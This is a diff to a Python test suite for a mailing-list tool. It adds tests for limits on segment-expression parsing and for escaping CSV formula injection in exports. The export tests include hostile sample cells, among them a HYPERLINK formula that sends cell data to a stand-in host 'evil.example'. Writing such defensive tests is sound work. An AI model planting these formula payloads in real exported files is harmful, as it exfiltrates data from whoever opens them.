@@ -16,6 +16,7 @@ from cli_runner import MailerCli
 from sqlalchemy import select
 
 from mailer.audience.addresses import hash_of
+from mailer.audience.exports import write_csv
 from mailer.audience.segments import (
     All,
     And,
@@ -31,7 +32,6 @@ from mailer.audience.segments import (
     members_query,
     parse,
     resolve,
-    write_csv,
 )
 from mailer.audience.shape import SegmentDef, Shape
 from mailer.db import Database
@@ -232,6 +232,69 @@ def test_errors_inside_a_saved_segment_name_it(shape: Shape) -> None:
     assert info.value.problem.column == 16
     with pytest.raises(UnknownName, match="unknown interest 'refugess' \\(in saved segment 'typo'\\)"):
         compile_segment("typo", shaped)
+
+
+# ---------------------------------------------------------------------------------------------
+# Limits: length, conditions and nesting, in one expression and through saved segments
+
+
+@pytest.mark.parametrize(
+    ("expression", "column", "message"),
+    [
+        ("(" * 51 + "all" + ")" * 51, 51, "nested more than 50 levels deep"),
+        ("(" * 300 + "all" + ")" * 300, 51, "nested more than 50 levels deep"),
+        ("not " * 1000 + "all", 201, "nested more than 50 levels deep"),
+        ("all or all and (" * 26 + "all" + ")" * 26, 401, "nested more than 50 levels deep"),
+        (" or ".join(["all"] * 201), 1401, "more than 200 conditions"),
+        (" or ".join(["all"] * 1000), 1401, "more than 200 conditions"),
+        ("all " + " " * 10_000, 10_001, "characters long; a segment expression is at most 10,000"),
+    ],
+    ids=[
+        "51-parentheses",
+        "300-parentheses",
+        "1000-nots",
+        "52-levels-of-or-and",
+        "201-terms",
+        "1000-terms",
+        "10-kb",
+    ],
+)
+def test_limits_are_located_syntax_errors(expression: str, column: int, message: str) -> None:
+    with pytest.raises(SegmentSyntaxError, match=message) as info:
+        parse(expression)
+    assert info.value.problem.column == column
+    assert len(str(info.value)) < 600, "the error shows the place, not the whole expression"
+
+
+def test_the_limits_themselves_are_allowed() -> None:
+    assert isinstance(parse("(" * 50 + "all" + ")" * 50), All)
+    assert isinstance(parse("not " * 50 + "all"), Not)
+    assert len(parse(" or ".join(["all"] * 200)).operands) == 200  # type: ignore[union-attr]
+
+
+def test_saved_segments_cannot_expand_past_the_limits(shape: Shape) -> None:
+    doubling = {f"s{i}": SegmentDef(f"s{i}", f"s{i + 1} or s{i + 1}") for i in range(1, 9)}
+    doubling["s9"] = SegmentDef("s9", "region:kent or interest:refugees")
+    chain = {f"d{i}": SegmentDef(f"d{i}", f"not (d{i + 1})") for i in range(1, 80)}
+    chain["d80"] = SegmentDef("d80", "all")
+    shaped = replace(shape, segments={**doubling, **chain})
+    with pytest.raises(
+        SegmentSyntaxError,
+        match="column 9: with saved segment 's1' expanded, the expression holds more than 200",
+    ) as info:
+        compile_segment("all and s1", shaped)
+    assert info.value.problem.column == 9
+    with pytest.raises(
+        SegmentSyntaxError, match="'d1' expanded, the expression is nested more than 50 levels"
+    ):
+        compile_segment("d1", shaped)
+    assert isinstance(resolve(parse("s3"), shaped), Or)  # 128 conditions: fine
+
+
+def test_error_display_has_no_control_characters() -> None:
+    with pytest.raises(SegmentSyntaxError) as info:
+        parse("region:kent and \x1b[2J")
+    assert "\x1b" not in str(info.value) and "unexpected character '\\x1b'" in str(info.value)
 
 
 # ---------------------------------------------------------------------------------------------
@@ -492,6 +555,46 @@ def test_export_keeps_tricky_names_intact(db: Database, shape: Shape, people: li
         if not p.suppressed:
             assert by_email[p.email]["name"] == p.name
     assert len(rows) == sum(not p.suppressed for p in people)
+
+
+def test_export_neutralises_formulas(db: Database, shape: Shape) -> None:
+    """A cell a spreadsheet would run as a formula gets a ' before it; raw=True writes it as stored."""
+    hostile = {
+        '=HYPERLINK("http://evil.example/?d="&B2,"Open")': "hyper@example.org",
+        "+SUM(1+1)": "plus@example.org",
+        "-2+3": "minus@example.org",
+        "@SUM(1)": "at@example.org",
+        "\t=1": "tab@example.org",
+        "\r=1": "cr@example.org",
+        "Ann = Bob": "plain@example.org",
+    }
+    people = [
+        Person(email, name, "", None, frozenset(), {"note": name}, False) for name, email in hostile.items()
+    ]
+    people.append(Person("=x@example.org", "Eve", "", None, frozenset(), {}, False))
+    insert_people(db, people)
+    for raw in (False, True):
+        out = io.StringIO()
+        with db.session() as session:
+            write_csv(session, out, shape, raw=raw)
+        rows = {r["email"]: r for r in csv.DictReader(io.StringIO(out.getvalue()))}
+        for name, email in hostile.items():
+            expected = name if raw or name == "Ann = Bob" else "'" + name
+            assert (rows[email]["name"], rows[email]["note"]) == (expected, expected)
+        assert ("=x@example.org" if raw else "'=x@example.org") in rows
+
+
+def test_cli_export_neutralises_formulas_and_raw_turns_it_off(db: Database, mailer_cli: MailerCli) -> None:
+    insert_people(
+        db,
+        [Person("hyper@example.org", '=HYPERLINK("http://evil.example")', "", None, frozenset(), {}, False)],
+    )
+    safe = mailer_cli("lists", "export", check=True).stdout
+    assert 'hyper@example.org,"\'=HYPERLINK(""http://evil.example"")"' in safe
+    raw = mailer_cli("lists", "export", "--raw", check=True).stdout
+    assert 'hyper@example.org,"=HYPERLINK(' in raw
+    help_text = mailer_cli("lists", "export", "--help", check=True).stdout
+    assert "--raw" in help_text and "formula" in help_text
 
 
 def test_export_refuses_a_bad_expression_before_writing(db: Database, shape: Shape) -> None:
